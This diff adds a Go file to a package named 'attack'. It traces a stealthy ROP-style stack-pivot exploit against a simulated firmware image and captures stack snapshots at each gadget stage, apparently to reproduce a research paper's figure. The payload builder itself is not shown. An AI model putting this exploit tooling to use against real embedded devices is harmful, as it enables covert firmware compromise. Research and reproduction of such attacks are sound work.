@@ -1,0 +1,95 @@
+package attack
+
+import (
+	"fmt"
+	"strings"
+)
+
+// Snapshot is one stage of the stack progression during the stealthy
+// attack, mirroring the paper's Fig. 6.
+type Snapshot struct {
+	Label string
+	SP    uint16
+	// Window is the stack content from SP-4 through SP+18.
+	Base   uint16
+	Window []byte
+}
+
+func (s Snapshot) String() string {
+	var sb strings.Builder
+	fmt.Fprintf(&sb, "%-46s SP=0x%04X\n", s.Label, s.SP)
+	for i := 0; i < len(s.Window); i += 8 {
+		end := i + 8
+		if end > len(s.Window) {
+			end = len(s.Window)
+		}
+		fmt.Fprintf(&sb, "  0x%04X:", s.Base+uint16(i))
+		for _, b := range s.Window[i:end] {
+			fmt.Fprintf(&sb, " 0x%02X", b)
+		}
+		sb.WriteByte('\n')
+	}
+	return sb.String()
+}
+
+// TraceV2 runs the stealthy attack against the attacker's own copy of
+// the firmware, capturing stack snapshots at the same stages as the
+// paper's Fig. 6: clean stack at handler entry, dirty stack after the
+// payload copy, after the first stk_move pivot, during payload
+// execution, before the repair stores, and after the clean return.
+func TraceV2(a *Analysis, image []byte, w Write) ([]Snapshot, error) {
+	sim, err := NewSim(image)
+	if err != nil {
+		return nil, err
+	}
+	payload, err := BuildV2(a, w)
+	if err != nil {
+		return nil, err
+	}
+	sim.SendFrame(Frame(payload))
+
+	snap := func(label string) Snapshot {
+		sp := sim.CPU.SP()
+		base := sp - 4
+		win := make([]byte, 23)
+		for i := range win {
+			addr := int(base) + i
+			if addr < len(sim.CPU.Data) {
+				win[i] = sim.CPU.Data[addr]
+			}
+		}
+		return Snapshot{Label: label, SP: sp, Base: base, Window: win}
+	}
+
+	var out []Snapshot
+	step := func(label string, pc uint32, budget uint64) error {
+		ok, fault := sim.RunUntilPC(pc, budget)
+		if !ok {
+			return fmt.Errorf("attack: trace never reached %s (fault: %v)", label, fault)
+		}
+		out = append(out, snap(label))
+		return nil
+	}
+
+	if err := step("(i) clean stack at handler entry", a.HandlerAddr, 20_000_000); err != nil {
+		return nil, err
+	}
+	// (ii) dirty stack: run until the first stk_move (the handler's own
+	// epilogue has consumed the overwritten saved registers by then).
+	if err := step("(ii)/(iii) after payload injection, entering gadget1 (stk_move)", a.StkMove.Addr, 1_000_000); err != nil {
+		return nil, err
+	}
+	if err := step("(iv) payload executing: gadget2 pop half", a.WriteMem.PopsAddr, 1_000_000); err != nil {
+		return nil, err
+	}
+	if err := step("(v) gadget2 store half (write + repair stores)", a.WriteMem.StoreAddr, 1_000_000); err != nil {
+		return nil, err
+	}
+	if err := step("(vi) gadget1 again: move SP back to original location", a.StkMove.Addr, 1_000_000); err != nil {
+		return nil, err
+	}
+	if err := step("(vii) repaired stack, continued execution", a.OrigRet, 1_000_000); err != nil {
+		return nil, err
+	}
+	return out, nil
+}
